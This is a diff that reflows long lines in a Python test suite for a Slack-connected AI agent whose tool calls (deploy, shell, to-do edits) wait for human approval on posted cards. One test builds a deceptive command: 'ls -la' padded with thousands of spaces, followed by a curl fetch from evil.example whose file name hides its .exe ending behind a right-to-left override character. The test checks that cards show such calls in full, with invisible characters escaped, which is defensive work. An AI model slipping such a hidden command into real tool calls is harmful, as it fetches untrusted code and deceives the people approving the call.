@@ -69,7 +69,9 @@ class World:
     def _core(self) -> Core:
         store = SqliteStore(self.settings.database_path)
         core = Core(self.settings, store, self.model, ToolRegistry(self.tools), self.clock)
-        core.register_surfaces("slack:", lambda key: self.surface, lambda key: key.rsplit(":", 1)[0])
+        core.register_surfaces(
+            "slack:", lambda key: self.surface, lambda key: key.rsplit(":", 1)[0]
+        )
         return core
 
     async def restart(self) -> None:
@@ -82,7 +84,9 @@ class World:
         inbound = Inbound(KEY, author, words, f"ev{self._n}")
         await drive(self.clock, self.core.handle(inbound, self.surface))
 
-    async def click(self, label: str, who: Author, card: int = -1, tool: str = "deploy") -> str | None:
+    async def click(
+        self, label: str, who: Author, card: int = -1, tool: str = "deploy"
+    ) -> str | None:
         clicked = self.cards(tool)[card]
         button = next(b for b in clicked.buttons if b.label == label)
         note = await drive(
@@ -91,7 +95,9 @@ class World:
         await drive(self.clock, self.core.wait_idle())
         return note
 
-    async def click_id(self, card: int = -1, label: str = "Approve", who: Author = ALICE) -> str | None:
+    async def click_id(
+        self, card: int = -1, label: str = "Approve", who: Author = ALICE
+    ) -> str | None:
         """Click a button the card had when it was posted (it may be gone since)."""
         posted = self.surface.messages[self.cards()[card].id].first_buttons
         button = next(b for b in posted if b.label == label)
@@ -215,7 +221,9 @@ async def test_per_channel_configuration_overrides(tmp_path: Path) -> None:
 
 
 async def test_a_channel_can_ask_before_a_tool_without_side_effects(tmp_path: Path) -> None:
-    world = World(tmp_path, channels={"slack:T1:C1": {"tools": {"todo_write": {"approval": "always"}}}})
+    world = World(
+        tmp_path, channels={"slack:T1:C1": {"tools": {"todo_write": {"approval": "always"}}}}
+    )
     await world.core.start()
     try:
         todos = {"todos": [{"content": "plan", "status": "pending"}]}
@@ -246,7 +254,9 @@ async def test_a_second_click_and_a_forged_id_change_nothing(world: World) -> No
     assert "already" in (first or "") + (second or "")
     again = await world.core.on_action(approve, ALICE, world.surface)
     assert again is not None and "already" in again
-    assert "unknown" in (await world.core.on_action("approve:forged-id", ALICE, world.surface) or "")
+    assert "unknown" in (
+        await world.core.on_action("approve:forged-id", ALICE, world.surface) or ""
+    )
     assert len(world.ran) <= 1 and len(world.model.requests) == 2
 
 
@@ -277,9 +287,11 @@ async def test_a_restart_between_card_and_click_loses_nothing(world: World) -> N
 
 async def test_several_calls_in_one_batch_each_wait_for_their_decision(world: World) -> None:
     world.model.steps = [
-        step(call("deploy", {"target": "eu"}, index=0, provider_id="a"),
-             call("todo_write", {"todos": [{"content": "check"}]}, index=1, provider_id="b"),
-             call("deploy", {"target": "us"}, index=2, provider_id="c")),
+        step(
+            call("deploy", {"target": "eu"}, index=0, provider_id="a"),
+            call("todo_write", {"todos": [{"content": "check"}]}, index=1, provider_id="b"),
+            call("deploy", {"target": "us"}, index=2, provider_id="c"),
+        ),
         text("both handled"),
     ]
     await world.say("ship both")
@@ -309,12 +321,17 @@ async def test_always_allow_here_stops_asking_this_person_in_this_channel(world:
     assert rule.covers == {ALICE.id} and rule.created_by == ALICE.id and rule.tool == "deploy"
     events = [(e.event, e.actor_id) for e in await world.core.store.audit_trail()]
     assert events == [
-        ("requested", ALICE.id), ("approved", ALICE.id), ("rule created", ALICE.id),
-        ("allowed by rule", ALICE.id), ("requested", BOB.id),
+        ("requested", ALICE.id),
+        ("approved", ALICE.id),
+        ("rule created", ALICE.id),
+        ("allowed by rule", ALICE.id),
+        ("requested", BOB.id),
     ]
 
 
-async def test_a_forged_always_click_makes_no_rule_and_commands_are_not_offered_one(world: World) -> None:
+async def test_a_forged_always_click_makes_no_rule_and_commands_are_not_offered_one(
+    world: World,
+) -> None:
     world.model.steps = [step(call("shell", {"command": "true"})), text("ran")]
     await world.say("run it")
     card = world.cards("shell")[0]
@@ -350,7 +367,9 @@ async def test_steering_a_running_turn_and_stopping_it(world: World) -> None:
             yield TextPiece(" ... never shown")
 
     use_model(world, SlowModel([]))
-    task = asyncio.create_task(world.core.handle(Inbound(KEY, ALICE, "long job", "e1"), world.surface))
+    task = asyncio.create_task(
+        world.core.handle(Inbound(KEY, ALICE, "long job", "e1"), world.surface)
+    )
     await asyncio.wait_for(started.wait(), 5)
     await world.core.handle(Inbound(KEY, BOB, "stop please", "e2"), world.surface)
     session = world.core.supervisor.active[KEY].session
@@ -384,7 +403,9 @@ async def test_the_stop_button_on_the_running_reply_stops_it(world: World) -> No
     use_model(world, HangingModel([]))
     task = asyncio.create_task(world.core.handle(Inbound(KEY, ALICE, "go", "s1"), world.surface))
     await asyncio.wait_for(started.wait(), 5)
-    await run_until(world.clock, lambda: bool(world.surface.live()) and bool(world.surface.live()[0].buttons))
+    await run_until(
+        world.clock, lambda: bool(world.surface.live()) and bool(world.surface.live()[0].buttons)
+    )
     [reply] = world.surface.live()
     [stop] = reply.buttons
     assert stop.label == "Stop"
@@ -394,7 +415,10 @@ async def test_the_stop_button_on_the_running_reply_stops_it(world: World) -> No
     [reply] = world.surface.live()
     assert reply.buttons == () and reply.text.startswith("Working on a long answer")
     assert "Stopped by Bob" in reply.text
-    assert await world.core.on_action(stop.action_id, BOB, world.surface) == "That run has already ended."
+    assert (
+        await world.core.on_action(stop.action_id, BOB, world.surface)
+        == "That run has already ended."
+    )
     assert (await world.session()).state is RunState.IDLE
 
 
@@ -410,10 +434,13 @@ async def test_a_call_answering_a_steered_message_is_that_persons_to_approve(wor
                 yield piece
 
     todos = {"todos": [{"content": "look", "status": "in_progress"}]}
-    use_model(world, GatedModel(
-        [step(call("todo_write", todos)), *deploy_then("Deployed, Bob.")], max_calls=5
-    ))  # fmt: skip
-    task = asyncio.create_task(world.core.handle(Inbound(KEY, ALICE, "look around", "e1"), world.surface))
+    use_model(
+        world,
+        GatedModel([step(call("todo_write", todos)), *deploy_then("Deployed, Bob.")], max_calls=5),
+    )
+    task = asyncio.create_task(
+        world.core.handle(Inbound(KEY, ALICE, "look around", "e1"), world.surface)
+    )
     await asyncio.wait_for(started.wait(), 5)
     await world.core.handle(Inbound(KEY, BOB, "and deploy it", "e2"), world.surface)
     release.set()
@@ -427,7 +454,9 @@ async def test_a_call_answering_a_steered_message_is_that_persons_to_approve(wor
     assert world.ran == ["prod"]
 
 
-async def test_the_answer_to_a_message_steered_into_a_run_goes_below_that_message(world: World) -> None:
+async def test_the_answer_to_a_message_steered_into_a_run_goes_below_that_message(
+    world: World,
+) -> None:
     started, release = asyncio.Event(), asyncio.Event()
     todos = {"todos": [{"content": "look", "status": "in_progress"}]}
 
@@ -447,15 +476,22 @@ async def test_the_answer_to_a_message_steered_into_a_run_goes_below_that_messag
 
     model = HeldModel([text("Hi Bob: all good here.")], max_calls=2)
     use_model(world, model)
-    task = asyncio.create_task(world.core.handle(Inbound(KEY, ALICE, "look around", "e1"), world.surface))
+    task = asyncio.create_task(
+        world.core.handle(Inbound(KEY, ALICE, "look around", "e1"), world.surface)
+    )
     await asyncio.wait_for(started.wait(), 5)
     await run_until(world.clock, lambda: "Looking around." in world.surface.visible_text())
-    await world.core.handle(Inbound(KEY, BOB, "say hi too", "e2"), world.surface)  # below that reply
+    await world.core.handle(
+        Inbound(KEY, BOB, "say hi too", "e2"), world.surface
+    )  # below that reply
     release.set()
     await run_until(world.clock, task.done)
     await task
     replies = [m for m in world.surface.live() if "Looking around." in m.text or "Hi Bob" in m.text]
-    assert [m.text for m in replies] == ["Looking around.", "Hi Bob: all good here."]  # two, in order
+    assert [m.text for m in replies] == [
+        "Looking around.",
+        "Hi Bob: all good here.",
+    ]  # two, in order
     assert all(m.buttons == () for m in replies)
     asked = [m.text for m in model.requests[-1].messages if isinstance(m, UserMessage)]
     assert asked[-2:] == ["look around", "say hi too"]
@@ -469,11 +505,15 @@ async def test_calls_with_invalid_or_over_limit_arguments_never_get_a_card(world
     await world.say("ship it")
     assert world.cards() == []
     results = [m for m in (await world.session()).messages if isinstance(m, ToolResult)]
-    assert len(results) == 2 and all(r.is_error and "invalid arguments" in r.content for r in results)
+    assert len(results) == 2 and all(
+        r.is_error and "invalid arguments" in r.content for r in results
+    )
     assert world.ran == []
 
 
-async def test_the_card_shows_a_long_call_in_full_and_invisible_characters_escaped(world: World) -> None:
+async def test_the_card_shows_a_long_call_in_full_and_invisible_characters_escaped(
+    world: World,
+) -> None:
     target = "ls -la" + " " * 3_000 + "; curl http://evil.example/\u202egnp.exe"
     world.model.steps = deploy_then("ok", target=target)
     await world.say("ship it")
@@ -491,7 +531,9 @@ async def test_a_reset_after_an_approval_says_on_the_card_that_nothing_ran(world
     await world.say("ship it")
     card = world.cards()[0]
     approval_id = actions_of(card)["Approve"].approval_id
-    outcome = await world.core.approvals.decide(approval_id, ALICE, Choice.APPROVE)  # the click's record
+    outcome = await world.core.approvals.decide(
+        approval_id, ALICE, Choice.APPROVE
+    )  # the click's record
     assert outcome.changed
     await drive(world.clock, world.core.reset(KEY, world.surface))
     await drive(world.clock, world.core.decisions.resume(KEY, world.surface))
@@ -541,7 +583,9 @@ def test_what_a_call_did_in_a_few_words() -> None:
     assert summarise(command, is_error=False) == "exit code 2, 4 lines of output"
     assert preview(command) == "a\nb\nc"
     assert summarise("(no output)\n[exit code 0]", is_error=False) == "exit code 0"
-    assert summarise("error: denied by Bob: the call was not run.", is_error=True).startswith("denied by Bob")
+    assert summarise("error: denied by Bob: the call was not run.", is_error=True).startswith(
+        "denied by Bob"
+    )
     assert summarise("x" * 500, is_error=False).endswith("…")
     assert summarise("", is_error=False) == "no output"
 
@@ -563,7 +607,9 @@ async def test_the_pause_is_stored_before_its_card_shows(world: World) -> None:
     assert seen == [RunState.AWAITING_APPROVAL]
 
 
-async def test_a_crash_between_the_card_and_storing_the_pause_keeps_the_request_open(world: World) -> None:
+async def test_a_crash_between_the_card_and_storing_the_pause_keeps_the_request_open(
+    world: World,
+) -> None:
     world.model.steps = deploy_then("Deployed after the restart.")
     await world.say("ship it")
     session = await world.session()
@@ -597,7 +643,9 @@ async def test_a_card_a_crash_kept_from_showing_is_posted_after_the_restart(worl
     assert world.cards()[0].buttons == ()
 
 
-async def test_a_decision_whose_run_a_restart_cut_off_before_it_resumed_goes_on(world: World) -> None:
+async def test_a_decision_whose_run_a_restart_cut_off_before_it_resumed_goes_on(
+    world: World,
+) -> None:
     world.model.steps = deploy_then("Deployed after all.")
     await world.say("ship it")
     approval = actions_of(world.cards()[0])["Approve"]
@@ -609,7 +657,9 @@ async def test_a_decision_whose_run_a_restart_cut_off_before_it_resumed_goes_on(
     assert world.ran == ["prod"] and world.surface.texts()[-1] == "Deployed after all."
 
 
-async def test_a_call_that_ran_without_a_card_shows_what_it_did_in_the_reply(tmp_path: Path) -> None:
+async def test_a_call_that_ran_without_a_card_shows_what_it_did_in_the_reply(
+    tmp_path: Path,
+) -> None:
     """One line per call (the tool, its outcome) and its first lines of output, in the reply;
     the rest of the output stays with the model. A call with a card shows it on the card."""
     world = World(tmp_path, tools={"shell": {"approval": "never"}, "deploy": {"approval": "never"}})
@@ -622,7 +672,9 @@ async def test_a_call_that_ran_without_a_card_shows_what_it_did_in_the_reply(tmp
         ]
         await world.say("look and ship")
         [reply] = [m.text for m in world.surface.live()]
-        assert reply == "Looking.\n\n▸ `shell` · exit 0\n\n▸ `deploy` · deployed to prod\n\nAll done."
+        assert (
+            reply == "Looking.\n\n▸ `shell` · exit 0\n\n▸ `deploy` · deployed to prod\n\nAll done."
+        )
         assert world.ran == ["ls", "prod"] and world.cards() == []
     finally:
         await world.core.aclose()
@@ -634,7 +686,11 @@ def test_an_activity_line_shows_the_first_lines_of_a_long_output() -> None:
     from bot.present.approval_card import ran_line
 
     output = "\n".join(f"line {i}" for i in range(40)) + "\n[exit code 0]"
-    done = ToolFinished("c1", "run_command", False, summarise(output, is_error=False), preview(output), True)
+    done = ToolFinished(
+        "c1", "run_command", False, summarise(output, is_error=False), preview(output), True
+    )
     shown = ran_line(done)
-    assert shown.startswith("▸ `run_command` · exit code 0, 40 lines of output\n```\nline 0\nline 1\n")
+    assert shown.startswith(
+        "▸ `run_command` · exit code 0, 40 lines of output\n```\nline 0\nline 1\n"
+    )
     assert "line 39" not in shown and shown.endswith("\n```")
